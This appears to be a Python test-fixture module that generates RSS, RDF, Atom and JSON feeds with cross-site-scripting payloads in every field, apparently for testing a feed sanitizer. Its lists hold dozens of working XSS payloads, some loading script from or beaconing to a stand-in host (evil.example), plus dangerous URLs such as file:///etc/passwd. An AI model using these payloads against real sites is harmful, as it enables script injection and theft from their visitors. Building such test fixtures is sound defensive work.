"""What an attacker writes into a feed, and feeds of every format that hold it in every field."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from string import Template

# Markup that would run, load or lead somewhere where it is shown as it is.
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=//evil.example ping=https://evil.example/p onclick=alert(1)>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/a srcdoc='<script>x</script>'><script>x</script>",
    "<iframe src='https://www.youtube.com.evil.example/embed/a'></iframe>",
    "<iframe src='https://user@www.youtube.com:evil@evil.example/embed/'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)><select onchange=alert(1)><option>x</select>",
    "<video poster=javascript:alert(1) src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<video onloadstart=alert(1)><source onerror=alert(1)>",
    "<audio src=data:audio/mp3,x oncanplay=alert(1)>",
    "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x' src=a.png>",
    "<img data-src='javascript:alert(1)' src=x>",
    "<img src=x data-srcset='a.png 1x, javascript:alert(1) 2x' >",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite=vbscript:x>y</q>",
    "<p style='background:url(javascript:alert(1))' class=x>y</p><style>@import 'x'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp><plaintext><script>x",
    "<p id='x\" onmouseover=\"alert(1)'>x</p><img alt='`><img src=x onerror=alert(1)>' src=x>",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'></style></svg>",
    "<math><mtext><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'></a>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<table><math><select><mi><select></table><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><p><style><img src=x onerror=alert(1)></style>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a>x</a></svg>",
    "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>",
    "<body onload=alert(1)><frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<p onmouseover=alert(1) onfocus=alert(1) tabindex=1 contenteditable>x</p>",
    "<a href='java\nscript:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a><a href='JaVaScRiPt:alert(1)'>x</a>",
    "<area href=javascript:alert(1)><map name=m><area href=javascript:alert(1)></map>",
    "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    "<portal src=javascript:alert(1)></portal><applet code=x></applet><bgsound src=x>",
    "<div style=\"background-image:url('http://evil.example/x')\">x</div>",
    "<style>*{background:url(http://evil.example/x)}</style><link rel=prefetch href=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&lt;p&gt;x&lt;/p&gt;&lt;p&gt;&lt;img src=x onerror=alert(1)&gt;&lt;/p&gt;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt><img \x00src=x \x0bonerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "</div></title></textarea></style><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='\" onmouseover=\"alert(1)\" x=\"",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)

# What should be an address and is none that anybody may follow.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//http://e.org/",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://e.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://e.org/x",
    "file:///etc/passwd",
    'https://e.org/"onmouseover="alert(1)',
    "https://e.org/'><script>alert(1)</script>",
)

_SPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:media="http://search.yahoo.com/mrss/" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"'
)
_MEDIA = (
    '<media:content url="$address" type="image/png"/><media:thumbnail url="$address"/>'
    '<itunes:image href="$address"/><itunes:summary>$text</itunes:summary>'
)
_ITEM = (
    "<title>$text</title><link>$address</link><description>$text</description>"
    "<content:encoded>$text</content:encoded><dc:creator>$text</dc:creator><category>$text</category>"
    f"<dc:subject>$text</dc:subject>{_MEDIA}"
)
_RSS = Template(
    f'<?xml version="1.0"?><rss version="2.0" {_SPACES}><channel><title>$text</title><link>$address</link>'
    f"<description>$text</description><item>{_ITEM}<guid>$address</guid><author>$text</author>"
    '<enclosure url="$address" type="$value" length="1"/></item>'
    "<item><title>$text</title><guid isPermaLink='false'>$text</guid></item></channel></rss>"
)
_RDF = Template(
    '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    f'xmlns="http://purl.org/rss/1.0/" {_SPACES}><channel rdf:about="$address"><title>$text</title>'
    f'<link>$address</link><description>$text</description></channel><item rdf:about="$address">{_ITEM}</item></rdf:RDF>'
)
_ATOM = Template(
    f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" {_SPACES}><id>$text</id>'
    '<title type="$type">$text</title><subtitle type="$type">$text</subtitle><link href="$address"/>'
    '<author><name>$text</name><uri>$address</uri></author><entry><id>$text</id><title type="$type">$text</title>'
    '<link href="$address"/><link rel="enclosure" href="$address" type="$value"/><updated>2026-11-02T00:00:00Z</updated>'
    '<summary type="$type">$text</summary><content type="$type">$text</content>'
    "<author><name>$text</name><uri>$address</uri><email>$text</email></author>"
    f'<category term="$value" label="$value"/>{_MEDIA}</entry></feed>'
)


@dataclass(frozen=True, slots=True)
class Poisoned:
    """A feed in which every field holds the same attack. ``kind`` is its format and writing."""

    kind: str
    body: bytes
    content_type: str


def _escaped(text: str) -> str:
    return escape(text)


def _cdata(text: str) -> str:
    return f"<![CDATA[{text.replace(']]>', ']]]]><![CDATA[>')}]]>"


def _bare(text: str) -> str:
    return text


_WRITINGS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("escaped", _escaped),
    ("cdata", _cdata),
    ("bare", _bare),
)


def poisoned(markup: str, address: str) -> Iterator[Poisoned]:
    """Feeds with ``markup`` in every field for words and ``address`` in every one for addresses.

    XML is written with the attack escaped, in CDATA, and as it is, which is seldom well-formed.
    """
    attributes = {"address": escape(address), "value": escape(markup)}
    for writing, write in _WRITINGS:
        words = {**attributes, "text": write(markup)}
        yield Poisoned(f"rss {writing}", _bytes(_RSS, words), "application/rss+xml")
        yield Poisoned(f"rdf {writing}", _bytes(_RDF, words), "application/rdf+xml")
        for type_ in ("text", "html", "xhtml"):
            yield Poisoned(
                f"atom {type_} {writing}",
                _bytes(_ATOM, {**words, "type": type_}),
                "application/atom+xml",
            )
    wrapped = f'<div xmlns="http://www.w3.org/1999/xhtml">{markup}</div>'
    words = {**attributes, "text": wrapped, "type": "xhtml"}
    yield Poisoned("atom xhtml wrapped", _bytes(_ATOM, words), "application/atom+xml")
    yield Poisoned("json", _json(markup, address), "application/feed+json")


def _bytes(template: Template, words: dict[str, str]) -> bytes:
    return template.substitute(words).encode("utf-8", "replace")


def _json(markup: str, address: str) -> bytes:
    author = {"name": markup, "url": address, "avatar": address}
    item = {
        "id": markup, "url": address, "external_url": address, "title": markup, "summary": markup,
        "content_html": markup, "content_text": markup, "image": address, "banner_image": address,
        "authors": [author], "tags": [markup], "language": markup,
        "attachments": [{"url": address, "mime_type": markup, "title": markup}],
    }  # fmt: skip
    text_only = {key: item[key] for key in ("title", "content_text", "url")} | {"id": address}
    feed = {
        "version": "https://jsonfeed.org/version/1.1", "title": markup, "description": markup,
        "home_page_url": address, "feed_url": address, "icon": address, "favicon": address,
        "authors": [author], "hubs": [{"type": markup, "url": address}], "items": [item, text_only],
    }  # fmt: skip
    return json.dumps(feed).encode()
